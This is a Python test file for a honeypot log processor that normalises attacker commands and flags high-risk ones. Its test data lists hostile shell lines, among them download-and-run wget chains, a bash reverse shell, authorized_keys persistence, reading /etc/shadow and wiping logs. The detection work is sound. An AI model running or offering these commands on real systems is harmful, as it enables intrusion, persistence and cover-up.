"""Command lines as they are counted, and which of them matter most."""

from __future__ import annotations

import re
from hashlib import blake2b

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cowrieprocessor.interpret.commands import (
    MAX_COMMAND_CHARS,
    command_of,
    describe_command,
    is_high_risk,
    normalize_command,
)
from cowrieprocessor.sanitize import restore

COMMANDS = st.text(st.characters(codec=None) | st.sampled_from(" \t\n\0\\\x1b\u202e\ud800;|&"), max_size=700)


@pytest.mark.parametrize(
    ("command", "counted"),
    [
        ("uname -a", "uname -a"),
        ("  uname   -a\t\n", "uname -a"),
        ("cd /tmp\r\nls", r"cd /tmp\x0d\x0als"),
        ("id\nuname  -a\n", r"id\x0auname -a"),
        ("id\n\tx", r"id\x0a x"),
        ("echo \\n", r"echo \\n"),
        ("", ""),
        (" \n", ""),
        ("echo \x1b[31m\0", r"echo \x1b[31m\x00"),
        ("echo -e \\x41", r"echo -e \\x41"),
        ("echo \ud800", r"echo \ud800"),
        ("echo é😀", "echo é😀"),
        ("wget http://198.51.100.7/x; sh x", "wget http://198.51.100.7/x; sh x"),
    ],
)
def test_commands_are_counted_without_their_white_space(command: str, counted: str) -> None:
    """Blanks are collapsed, control characters escaped, line ends inside too; nothing else changes: it is evidence."""
    assert normalize_command(command) == counted


def test_different_commands_stay_distinct() -> None:
    """Two commands that differ in more than blanks are counted separately."""
    assert normalize_command("rm -rf /") != normalize_command("rm -rf /x")
    assert normalize_command("echo \x1b") != normalize_command("echo \\x1b")
    lines = {normalize_command(command) for command in ("id\nw", "id w", "id; w", "id\\nw", "id\\x0aw", "id\r\nw")}
    assert len(lines) == 6


@pytest.mark.parametrize("character", ["x", "é", "😀", "\0", "\\", "\u202e"])
def test_long_commands_are_cut_and_stay_distinct(character: str) -> None:
    """A long command is cut to 512 characters, never within an escape, and stays distinct by its hash."""
    one, other = normalize_command(character * 5000 + "1"), normalize_command(character * 5000 + "2")

    for command in (one, other):
        head, found, digest = command.rpartition("… sha256:")
        assert found
        assert re.fullmatch("[0-9a-f]{32}", digest)
        assert set(restore(head)) == {character}
        assert MAX_COMMAND_CHARS - 10 <= len(command) <= MAX_COMMAND_CHARS
    assert one != other


@pytest.mark.parametrize(("length", "cut"), [(512, False), (513, True)])
def test_command_is_cut_only_if_it_is_too_long(length: int, cut: bool) -> None:
    """A command with exactly the allowed length stays whole."""
    assert ("sha256:" in normalize_command("x" * length)) == cut


@given(COMMANDS)
def test_any_command_can_be_stored(command: str) -> None:
    """Whatever was typed, the normal form fits the column, is valid Unicode and has no control characters."""
    counted = normalize_command(command)

    assert len(counted) <= MAX_COMMAND_CHARS
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\ud800-\udfff]", counted)
    assert counted.encode().decode() == counted


@given(COMMANDS)
def test_the_cache_for_repeated_commands_changes_nothing(command: str) -> None:
    """The cached result of a command is the computed one, the first time and every other."""
    expected = (normalize_command(command), is_high_risk(command))

    assert describe_command(command) == describe_command(command) == expected


@given(st.lists(st.sampled_from(["uname", "-a", "\\", "'", "é", "\0"]), max_size=8), st.data())
def test_blanks_do_not_matter(words: list[str], data: st.DataObject) -> None:
    """The same words with other blanks between and around them are the same command."""
    blanks = st.text(" \t", min_size=1, max_size=3)
    spaced = "".join(data.draw(blanks) + word for word in words) + data.draw(blanks)

    assert normalize_command(spaced) == normalize_command(" ".join(words))


@pytest.mark.parametrize(
    "command",
    [
        "wget http://198.51.100.7/x",
        "cd /tmp; curl -O 198.51.100.7/x",
        "/bin/busybox tftp -g -r x 198.51.100.7",
        "chmod 777 x",
        "chmod 0755 x",
        "chmod +x x",
        "chmod u+rwx x",
        "chmod a=rwx x",
        "chmod -R 777 /tmp",
        "./x",
        "cd /tmp && ./x",
        "cd /tmp\n./x",
        "cd /tmp\r\n  ./x",
        "ls|/tmp/x",
        "/dev/shm/x",
        "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
        "crontab -l",
        "cat /etc/passwd",
        "cat /etc/shadow",
        "echo /tmp/x.so > /etc/ld.so.preload",
        "echo root:x|chpasswd",
        "passwd",
        "nc -l 4444",
        "bash -i >& /dev/tcp/198.51.100.7/1 0>&1",
        "echo Zm9v | base64 -d | sh",
        "base64 --decode x",
        "python3 -c 'import os'",
        "perl -e 'print 1'",
        "iptables -F",
        "pkill -9 x",
        "history -c",
        "rm -rf /var/log",
        "rm -fr /var/log",
        "rm -rvf x",
    ],
)
def test_high_risk_commands(command: str) -> None:
    """Commands that download, execute, hide or persist something are high-risk."""
    assert is_high_risk(command)


@pytest.mark.parametrize(
    "command",
    [
        "",
        "uname -a",
        "ls -la /tmp/x",
        "cat /proc/cpuinfo",
        "chmod 644 x",
        "chmod -x x",
        "chmod go= ~/.ssh",
        "rm x",
        "rm -f x",
        "rm -r x",
        "echo nccat",
        "free -m | grep Mem",
        "python3 --version",
        "base64 x",
        "wgetrc",
        "w",
    ],
)
def test_low_risk_commands(command: str) -> None:
    """Commands that only look around are not high-risk."""
    assert not is_high_risk(command)


def test_only_the_start_of_a_command_is_examined() -> None:
    """Anything after the first 4096 characters of a command is ignored."""
    assert is_high_risk("x" * 4000 + "; wget x")
    assert not is_high_risk("x" * 4096 + "; wget x")


def of_v3(typed: str, safe: str, **more: object) -> dict[str, object]:
    """Return the fields of a command as version 3 kept them, with the hash of what was typed."""
    digest = blake2b(typed.encode("utf-8", "surrogatepass"), digest_size=32).hexdigest()
    return {"input": None, "command": None, "input_safe": safe, "input_hash": digest, **more}


@pytest.mark.parametrize(
    ("typed", "safe"),
    [
        ("uname -a", "uname -a"),
        ("cd /tmp && ls", "cd /tmp [AND] ls"),
        ("cd /tmp&&ls", "cd /tmp [AND] ls"),
        ("wget http://198.51.100.7/x;sh x", "wget [URL]198.51.100.7/x [SC] sh x"),
        ("wget https://198.51.100.7/x; sh x", "wget [URL]198.51.100.7/x [SC] sh x"),
        ("cat x | grep y | wc -l", "cat x [PIPE] grep y [PIPE] wc -l"),
        ("enable ", "enable"),
        ("echo [AND]", "echo [AND]"),
    ],
)
def test_a_command_that_v3_rewrote_is_proven_by_its_hash(typed: str, safe: str) -> None:
    """What agrees with version 3's hash was typed, whether the message has it or not."""
    assert command_of(of_v3(typed, safe)) == typed
    assert command_of(of_v3(typed, safe, message=f"CMD: {typed}")) == typed


@pytest.mark.parametrize(
    ("typed", "safe"),
    [
        ("cd  /tmp &&ls;w", "cd /tmp [AND] ls [SC] w"),
        ("a\n;b", "a [SC] b"),
        ("echo \ud800|x | y", "echo \ud800 [PIPE] x [PIPE] y"),
    ],
)
@pytest.mark.parametrize("prefix", ["CMD: ", "Command found: ", "Command not found: "])
def test_a_command_that_v3_rewrote_is_proven_by_the_log(typed: str, safe: str, prefix: str) -> None:
    """Cowrie's message, which version 3 left alone, has the command in any spelling; with the hash or without one."""
    fields = of_v3(typed, safe, message=f"{prefix}{typed}")

    assert command_of(fields) == typed
    assert command_of(fields | {"input_hash": None}) == typed
    assert command_of(of_v3(typed, safe, message="CMD: something else")) == f"[rewritten by version 3] {safe}"


@pytest.mark.parametrize(
    ("fields", "command"),
    [
        ({"input": "ls", "input_safe": "no"}, "ls"),
        ({"input": ""}, ""),
        ({"input": None, "input_safe": ""}, None),
        ({"input": 5, "input_safe": None, "message": "CMD: ls"}, None),
        ({"input": None, "input_safe": "a [SC] b", "input_hash": "0" * 64}, "[rewritten by version 3] a [SC] b"),
        (
            {"input": None, "input_safe": "a [SC] b", "input_hash": 7, "message": ["x"]},
            "[rewritten by version 3] a [SC] b",
        ),
    ],
)
def test_a_command_that_is_not_proven_is_marked(fields: dict[str, object], command: str | None) -> None:
    """Nothing is made up: what cannot be proven is shown as version 3 kept it, and says so."""
    assert command_of(fields) == command


def test_a_rewritten_command_is_rated_as_it_would_have_been() -> None:
    """The words that stand for operators and URLs do not hide what a command does."""
    assert is_high_risk("[rewritten by version 3] cd /tmp [SC] ./x")
    assert not is_high_risk("[rewritten by version 3] cd / [AND] ls")
